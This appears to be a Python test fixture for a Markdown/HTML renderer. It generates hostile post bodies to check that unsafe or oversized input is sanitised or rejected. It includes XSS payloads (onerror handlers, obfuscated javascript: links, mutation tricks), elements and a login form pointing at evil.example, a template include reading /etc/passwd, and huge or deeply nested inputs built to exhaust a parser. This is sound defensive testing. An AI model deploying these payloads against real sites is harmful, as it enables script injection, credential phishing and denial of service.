"""Bodies that nest, repeat or leave open what a parser may choke on, or carry what must not leave."""

from __future__ import annotations

from tests.conftest import story
from tests.hostile.case import Case, post

_MANY = 100_000
_ENDLESS = {
    "comment": "<p>{story}</p><!-- 没有收尾",
    "comment-many": "<p>{story}</p>" + "<!--" * 20_000,
    "script": "<p>{story}</p><script>var a = '",
    "style": "<p>{story}</p><style>p {",
    "textarea": "<p>{story}</p><textarea>",
    "title": "<p>{story}</p><title>",
    "svg": "<p>{story}</p><svg><title><style>",
    "cdata": "<p>{story}</p><![CDATA[",
    "doctype": "<!DOCTYPE <p>{story}</p>",
    "attribute": '<p>{story}</p><p class="',
    "tag": "<p>{story}</p><p ",
    "table": "<p>{story}</p><table><tr><td>",
    "noscript": "<p>{story}</p><noscript><p>",
    "frameset": "<frameset><frame src=x><p>{story}</p>",
    "fence": "{story}\n\n```\nx",
}
_MUCH = {
    "attributes": "<p " + " ".join(f"a{number}=1" for number in range(2_000)) + ">{story}</p>",
    "attribute-long": '<p title="' + "a" * 1_000_000 + '">{story}</p>',
    "entities": "<p>{story}" + "&amp;" * 50_000 + "</p>",
    "entities-unknown": "<p>{story}" + "&nosuch;" * 20_000 + "</p>",
    "entity-huge": "<p>{story}&#99999999999;&#xFFFFFFFFF;&#0;&#xD800;</p>",
    "breaks": "<p>{story}</p>" + "<br>" * 50_000,
    "siblings": "<p>{story}</p>" + "<p></p>" * 50_000,
    "images": "<p>{story}</p>" + '<img src="https://example.org/a.png">' * 2000,
    "links": "<p>{story}" + '<a href="https://example.org/">甲</a>' * 5000 + "</p>",
    "cells": "<p>{story}</p><table><tr>" + "<td>1</td>" * 5000 + "</tr></table>",
    "rows": "<p>{story}</p><table>" + "<tr><td>1</td></tr>" * 5000 + "</table>",
    "colspan": '<p>{story}</p><table><tr><td colspan="1000000000">甲</td></tr></table>',
    "rowspan": '<p>{story}</p><table><tr><td rowspan="1000000000">甲</td><td>乙</td></tr><tr><td>丙</td></tr></table>',
    "spans-both": "<p>{story}</p><table>"
    + '<tr><td colspan="1000" rowspan="1000">甲</td></tr>' * 50
    + "</table>",
    "stars": "{story}" + "*" * 50_000,
    "underscores": "{story}" + "_a" * 20_000,
    "brackets": "{story}" + "[" * 20_000,
    "bracket-pairs": "{story}" + "[a](" * 10_000,
    "backticks": "{story}" + " ".join("`" * (number % 50 + 1) for number in range(3000)),
    "less": "{story}" + "<" * 20_000,
    "references": "{story}\n\n"
    + "\n".join(f"[{number}]: https://example.org/{number}" for number in range(5000)),
    "pipes": "{story}\n\n" + "|" * 5000 + "\n" + "|-" * 5000 + "\n",
    "line": "{story}" + "字" * 1_000_000,
    "words": "{story}" + "甲 " * 200_000,
}
# More than can be held: a minute and gigabytes for the millions of bytes that a file may have.
_BEYOND = {
    "items": "- 条\n",
    "rows": "|甲|乙|\n",
    "bold": "**粗** ",
    "definitions": "[a]: https://example.org/\n",
    "elements": "<p>段</p>",
    "cells": "<td>格</td>",
}
_DEEP = {
    "div": ("<div>", "</div>"),
    "b": ("<b>", "</b>"),
    "font": ("<font>", "</font>"),
    "ul": ("<ul><li>", "</li></ul>"),
    "blockquote": ("<blockquote>", "</blockquote>"),
    "table": ("<table><tr><td>", "</td></tr></table>"),
    "a": ('<a href="https://example.org/">', "</a>"),
    "svg": ("<svg>", "</svg>"),
    "math": ("<math>", "</math>"),
    "object": ("<object>", "</object>"),
    "select": ("<select>", "</select>"),
    "template": ("<template>", "</template>"),
}
_ACTIVE = {
    "script": "<script>alert(1)</script>",
    "onerror": '<img src=x onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="data:text/html,x"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name=a><button>登录</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "javascript": '<a href="javascript:alert(1)">点这里看全文</a>',
    "javascript-tab": '<a href="java&#9;script:alert(1)">点这里看全文</a>',
    "javascript-entity": '<a href="&#106;avascript:alert(1)">点这里看全文</a>',
    "vbscript": '<a href="vbscript:x">点这里看全文</a>',
    "data": '<a href="data:text/html;base64,PHNjcmlwdD4=">点这里看全文</a>',
    "data-image": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "math": "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "include": "{{ '/etc/passwd' | include }} {% include '/etc/passwd' %} {{< readfile \"/etc/passwd\" >}}",
}


def cases() -> list[Case]:
    """Return the cases of bodies."""
    bodies = {**_ENDLESS, **_MUCH}
    found = [_case(f"body-{name}", body.replace("{story}", story(name))) for name, body in bodies.items()]
    for name, body in _ACTIVE.items():
        found.append(_case(f"active-{name}", f"<p>{story('active ' + name)}</p>\n{body}"))
    for name, (opened, closed) in _DEEP.items():
        body = f"<p>{story('deep' + name)}</p>" + opened * _MANY + "底" + closed * _MANY
        found.append(_case(f"deep-{name}", body, outcome="rejected:too_deep"))
    attributes = " ".join(f"a{number}=1" for number in range(50_000))
    found.append(_case("beyond-attributes", f"<p {attributes}>段</p>", outcome="rejected:too_large"))
    for name, unit in _BEYOND.items():
        found.append(_case(f"beyond-{name}", unit * 250_000, outcome="rejected:too_large"))
    found.append(_case("deep-quote-marks", f"{story('marks')}\n\n" + ">" * _MANY + "底", "rejected:too_deep"))
    found.append(
        _case("deep-list-marks", f"{story('lists')}\n\n" + "- " * 10_000 + "底", "rejected:too_deep")
    )
    return found


def _case(name: str, body: str, outcome: str = "kept") -> Case:
    return post(name, f"title: 正文 {name}\ndate: '2021-10-09T19:41:14+08:00'", body, outcome)
